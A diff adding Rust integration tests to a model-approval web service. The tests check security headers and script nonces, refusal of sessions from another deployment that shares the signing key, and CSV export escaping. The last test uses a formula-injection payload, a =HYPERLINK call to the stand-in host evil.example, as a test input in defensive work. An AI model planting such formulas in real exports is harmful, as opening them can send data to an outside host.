@@ -871,3 +871,119 @@ async fn an_approver_rolls_an_environment_back_to_an_earlier_version() {
     assert_eq!(again.status, StatusCode::CONFLICT);
     assert!(again.body.contains("already live"), "{}", again.body);
 }
+
+#[tokio::test]
+async fn every_answer_carries_the_security_headers_and_pages_a_script_nonce() {
+    let app = TestApp::new(&[]).await;
+    app.register("churn", "dana").await;
+    let alice = app.sign_in("alice").await;
+    let page = app.get("/models/churn/versions/1", Some(&alice)).await;
+    let api = app.get("/api/v1/models/churn/environments/dev", None).await;
+    for reply in [&page, &api] {
+        let header = |name: &str| {
+            reply
+                .headers
+                .get(name)
+                .unwrap_or_else(|| panic!("no {name}"))
+                .to_str()
+                .unwrap()
+                .to_owned()
+        };
+        let policy = header("content-security-policy");
+        assert!(policy.contains("frame-ancestors 'none'"), "{policy}");
+        assert!(policy.contains("'wasm-unsafe-eval'"), "{policy}");
+        assert!(!policy.contains("unsafe-inline"), "{policy}");
+        assert_eq!(header("x-frame-options"), "DENY");
+        assert_eq!(header("x-content-type-options"), "nosniff");
+        assert_eq!(header("referrer-policy"), "same-origin");
+        assert_eq!(header("cache-control"), "no-store");
+        assert!(
+            reply.headers.get("strict-transport-security").is_none(),
+            "no HSTS over http"
+        );
+    }
+    // The inline hydration script carries the nonce this answer's policy names, and the
+    // next answer has another.
+    let policy = page.headers["content-security-policy"].to_str().unwrap();
+    let nonce = policy
+        .split("'nonce-")
+        .nth(1)
+        .and_then(|rest| rest.split('\'').next())
+        .unwrap();
+    assert!(
+        page.body.contains(&format!("nonce=\"{nonce}\"")),
+        "the page's scripts carry {nonce}"
+    );
+    let again = app.get("/models/churn/versions/1", Some(&alice)).await;
+    assert!(!again.headers["content-security-policy"]
+        .to_str()
+        .unwrap()
+        .contains(nonce));
+
+    let https = TestApp::new(&[("PUBLIC_URL", "https://countersign.example.com")]).await;
+    let reply = https.get("/healthz", None).await;
+    assert_eq!(
+        reply.headers["strict-transport-security"],
+        "max-age=31536000"
+    );
+}
+
+#[tokio::test]
+async fn a_session_from_another_deployment_sharing_the_key_is_refused() {
+    let key = countersign_server::session::Sessions::generate_key();
+    let dir = tempfile::tempdir().unwrap();
+    let laptop_db = dir.path().join("laptop.db");
+    let production_db = dir.path().join("production.db");
+    let laptop = Config::from_pairs([
+        ("DATABASE", laptop_db.to_str().unwrap()),
+        ("SESSION_KEY", key.as_str()),
+    ])
+    .unwrap();
+    let production = Config::from_pairs([
+        ("DATABASE", production_db.to_str().unwrap()),
+        ("SESSION_KEY", key.as_str()),
+        ("PUBLIC_URL", "http://localhost:8080"),
+    ])
+    .unwrap();
+    let laptop = TestApp {
+        router: router_for(&laptop).await,
+        _dir: tempfile::tempdir().unwrap(),
+    };
+    let production = TestApp {
+        router: router_for(&production).await,
+        _dir: tempfile::tempdir().unwrap(),
+    };
+    let minted = laptop.sign_in("alice").await;
+    let here = laptop
+        .post_form("/rpc/current_user", "", Some(&minted), "application/json")
+        .await;
+    assert!(here.body.contains("Alice Approver"), "{}", here.body);
+    let there = production
+        .post_form("/rpc/current_user", "", Some(&minted), "application/json")
+        .await;
+    assert!(!there.body.contains("Alice"), "{}", there.body);
+}
+
+#[tokio::test]
+async fn history_exports_never_hand_a_spreadsheet_a_formula() {
+    let app = TestApp::new(&[]).await;
+    app.register("churn", "dana").await;
+    let alice = app.sign_in("alice").await;
+    let reason = r#"=HYPERLINK("http://evil.example/?x","details")"#;
+    let form = format!(
+        "group=churn&version=1&environment=dev&verdict=reject&reason={}",
+        url::form_urlencoded::byte_serialize(reason.as_bytes()).collect::<String>()
+    );
+    let rejected = app
+        .post_form("/rpc/decide", &form, Some(&alice), "application/json")
+        .await;
+    assert_eq!(rejected.status, StatusCode::OK, "{}", rejected.body);
+    let csv = app
+        .get("/models/churn/export/history.csv", Some(&alice))
+        .await;
+    assert_eq!(csv.status, StatusCode::OK);
+    let mut rows = csv::Reader::from_reader(csv.body.as_bytes());
+    let row = rows.records().next().unwrap().unwrap();
+    let cell = row.iter().find(|c| c.contains("HYPERLINK")).unwrap();
+    assert_eq!(cell, format!("'{reason}"));
+}
